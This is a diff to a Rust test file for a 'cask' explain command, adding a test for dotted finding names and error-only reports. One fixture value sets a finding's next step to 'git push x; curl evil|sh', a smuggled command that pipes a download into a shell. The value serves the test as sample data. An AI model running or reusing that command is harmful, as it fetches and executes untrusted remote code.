@@ -45,6 +45,8 @@ fn a_finding_is_explained_from_a_report_and_by_judging_anew() {
         assert!(kept.contains(part), "no {part:?} in\n{kept}");
     }
     assert!(kept.lines().any(|line| line.trim_start().starts_with("+ ") && line.contains("evil-")), "{kept}");
+    let (first, kept) = kept.split_once("\n\n").expect("a first line");
+    assert_eq!(first, "as the report says; nothing was checked here");
     let anew = place.cask(&["explain", print]).ok();
     // Who may sign is known only to the one who judges.
     let (with, without): (Vec<&str>, Vec<&str>) =
@@ -53,7 +55,7 @@ fn a_finding_is_explained_from_a_report_and_by_judging_anew() {
     assert_eq!(without.join("\n"), kept.trim_end());
     for word in [&print[..6], rule, name] {
         let shown = place.cask(&["explain", word, "--report", "report.json"]).ok();
-        assert!(shown.contains(&kept), "{word}:\n{shown}");
+        assert!(shown.contains(kept), "{word}:\n{shown}");
     }
     assert_eq!(place.cask(&["explain", rule]).ok(), place.cask(&["rules", rule]).ok());
     let told = place.cask(&["explain", "0000000000000000", "--report", "report.json"]).failed();
@@ -64,6 +66,25 @@ fn a_finding_is_explained_from_a_report_and_by_judging_anew() {
         )),
         "{told}"
     );
+}
+
+#[test]
+fn names_with_a_dot_are_looked_up_and_a_report_without_a_judgement_says_so() {
+    let (world, mut report) = moved();
+    let place = &world.place;
+    report["findings"][0]["subject"]["name"] = json!("github.create_issue");
+    report["findings"][0]["next"] = json!("git push x; curl evil|sh");
+    place.write("dotted.json", serde_json::to_vec(&report).expect("JSON"));
+    let shown = place.cask(&["explain", "github.create_issue", "--report", "dotted.json"]).ok();
+    assert!(shown.contains("github.create_issue") && shown.contains("do"), "{shown}");
+    let told = place.cask(&["explain", "gate.unaproved", "--report", "dotted.json"]).failed();
+    assert!(told.contains("no finding is called"), "{told}");
+    report["findings"] = json!([]);
+    report["verdict"] = json!("error");
+    report["error"] = json!({"kind": "trust", "message": "no trust file", "hints": []});
+    place.write("error.json", serde_json::to_vec(&report).expect("JSON"));
+    let told = place.cask(&["explain", "x", "--report", "error.json"]).failed();
+    assert!(told.contains("nothing could be judged") && told.contains("no trust file"), "{told}");
 }
 
 #[test]
